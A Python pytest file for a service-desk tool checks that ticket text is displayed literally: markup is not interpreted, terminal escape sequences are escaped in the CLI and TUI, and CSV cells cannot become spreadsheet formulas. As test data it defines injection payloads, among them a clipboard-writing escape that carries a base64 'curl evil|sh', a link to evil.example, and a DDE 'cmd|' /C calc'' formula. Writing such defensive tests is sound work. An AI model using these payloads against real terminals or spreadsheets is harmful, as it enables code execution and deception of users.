"""Stored text is data on every screen: markup in it is shown, not interpreted; terminal escape
sequences and other control characters in it are shown escaped (`\\x1b`), never sent raw; CSV
cells cannot become spreadsheet formulas. Reproductions of issue 18 item 4 first, then a
property test that feeds random markup and control characters through every renderer."""

import asyncio
import csv
import io
import json

import pytest

from sdesk.plain import controls, csv_cell
from sdesk.store import Store

ESC = "\x1b"
RETITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_C1 = "\x9b2J"
BIDI = "abc\u202edcba"
HOSTILE = RETITLE + CLIPBOARD + CLEAR + OSC8 + CSI_C1 + BIDI


def raw_controls(text: str) -> list[str]:
    """Control characters a terminal would act on (newline and tab are layout)."""
    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
                   or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})


# -- reproductions ----------------------------------------------------------------------------------


def test_markup_in_an_actor_shows_as_text_in_the_timeline(cli):
    ticket = cli.new("disk full")
    cli("--as", "[/x]", "comment", str(ticket), "hi")
    out = cli("show", str(ticket)).stdout
    assert "[/x]" in out and "hi" in out


def test_a_refused_attempt_by_a_markup_actor_shows_as_text(cli, tmp_path):
    ticket = cli.new("disk full")
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config" / "roles.yaml").write_text("default_role: viewer\n")
    cli("user", "add", "alice", "--role", "admin")
    refused = cli("--as", "[/x]", "comment", str(ticket), "hi", ok=False)
    assert refused.exit_code == 5
    out = cli("--as", "alice", "show", str(ticket)).stdout
    assert "[/x]" in out and "refused" in out


def test_markup_in_every_ticket_field_is_shown_literally(cli):
    ticket = cli.new("[bold]title[/bold] [/nope]", "--service", "[/svc]", "--queue", "[red]q",
                     "--requester", "[link=https://evil.example]me[/link]", "-l", "[k]=[/v]", "-t", "[@click=app.quit]t",
                     "-d", "[/desc]")
    cli("assign", str(ticket), "[/who]")
    show = cli("show", str(ticket)).stdout
    for literal in ("[bold]title[/bold] [/nope]", "[/svc]", "[red]q", "[k]=[/v]", "[@click=app.quit]t", "[/desc]",
                    "[/who]"):
        assert literal in show
    listed = cli("list").stdout
    assert "[bold]title" in listed


def test_escape_sequences_from_stored_text_never_reach_the_terminal(cli):
    ticket = cli.new("t" + HOSTILE, "-d", "line one\n" + HOSTILE, "-l", "k=" + HOSTILE, "--service", "s" + CLEAR,
                     "-t", "x" + CSI_C1)
    cli("--as", "eve" + RETITLE, "comment", str(ticket), "c" + HOSTILE)
    for args in (["show", str(ticket)], ["list"], ["why", str(ticket)]):
        out = cli(*args).stdout
        assert raw_controls(out) == [], args
    show = cli("show", str(ticket)).stdout
    assert "\\x1b]0;pwned\\x07" in show and "\\x9b2J" in show and "\\u202e" in show
    assert "line one\n" in show  # a description keeps its lines


def test_json_output_keeps_the_exact_text(cli):
    ticket = cli.new("t" + HOSTILE)
    assert cli.json("show", str(ticket))["title"] == "t" + HOSTILE
    assert cli.json("list")[0]["title"] == "t" + HOSTILE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_become_formulas(cli, db_path, start):
    formula = start + 'HYPERLINK("https://evil.example","x")'
    with Store(db_path) as store:
        store.intake([{"title": formula, "service": formula, "requester": start + "cmd|' /C calc'!A0",
                       "kind": "incident", "priority": "P3"}], actor="t", source="cli")
    out = cli("list", "--csv").stdout
    [row] = list(csv.DictReader(io.StringIO(out)))
    for field in ("title", "service", "requester"):
        assert row[field][0] not in "=+-@\t\r", (field, row[field])
        assert row[field].startswith("'") or row[field].startswith("HYPERLINK")  # a title loses its leading blank
    assert raw_controls(out) == []


def test_csv_keeps_ordinary_cells_and_numbers():
    assert csv_cell("disk full") == "disk full" and csv_cell(3) == 3 and csv_cell("") == ""
    assert csv_cell("a\nb") == "a\nb"  # CSV quotes newlines itself


def test_controls_escapes_what_a_terminal_acts_on_and_keeps_text():
    assert controls("plain ünïcode ✓ 🙂") == "plain ünïcode ✓ 🙂"
    assert controls("\x1b]0;x\x07") == "\\x1b]0;x\\x07"
    assert controls("a\nb\tc") == "a\nb\tc"
    assert controls("a\nb\tc\r", one_line=True) == "a\\nb\\tc\\r"
    assert controls("\x9b\u202e\ud800") == "\\x9b\\u202e\\ud800"


# -- the TUI ----------------------------------------------------------------------------------------


def run_tui(db_path, actor, steps=(), size=(80, 30)):
    """Start the TUI, press `steps` (each a tuple of keys, the workers settled after each), and
    return the text of every widget that was on the screen after each step."""
    from textual.widgets import DataTable

    from sdesk.tui.app import make_app

    seen: list[str] = []

    async def body():
        app = make_app(db_path, actor, poll=3600)
        async with app.run_test(size=size) as pilot:
            for keys in ((), *steps):
                await pilot.press(*keys)
                for _ in range(40):
                    await pilot.pause(0.05)
                    await app.workers.wait_for_complete()
                    if not app.screen.query(DataTable) or app.screen.query_one(DataTable).row_count:
                        break
                seen.append(screen_text(app))
        assert app.return_code in (None, 0)

    asyncio.run(body())
    return seen


def screen_text(app) -> str:
    """Everything the screen paints, as the terminal would get it (the compositor's strips)."""
    lines = app.screen._compositor.render_update(full=True)
    from rich.console import Console

    out = Console(file=io.StringIO(), width=app.size.width, force_terminal=True, color_system="truecolor",
                  legacy_windows=False)
    out.print(lines)
    return out.file.getvalue()


def hostile_ticket(db_path, **fields):
    with Store(db_path) as store:
        [(ticket, _)] = store.intake([{"title": "hostile", "kind": "incident", "priority": "P2", **fields}],
                                     actor="t", source="cli")
    return ticket


@pytest.mark.parametrize("field", ["service", "assignee", "title", "queue"])
def test_the_tui_starts_over_a_ticket_with_markup_in_a_field(db_path, field):
    hostile_ticket(db_path, **{field: "[/nope]"})
    [queue, ticket] = run_tui(db_path, "alice", [("enter",)])
    assert "[/nope]" in queue + ticket


def test_the_tui_starts_for_an_actor_with_markup_and_shows_a_markup_actor(db_path):
    ticket = hostile_ticket(db_path)
    with Store(db_path) as store:
        store.comment(ticket_id=ticket, text="[/c]", actor="[/x]")
    [queue, shown] = run_tui(db_path, "[/me]", [("enter",)])
    assert "[/me]" in queue
    assert "[/x]" in shown and "[/c]" in shown
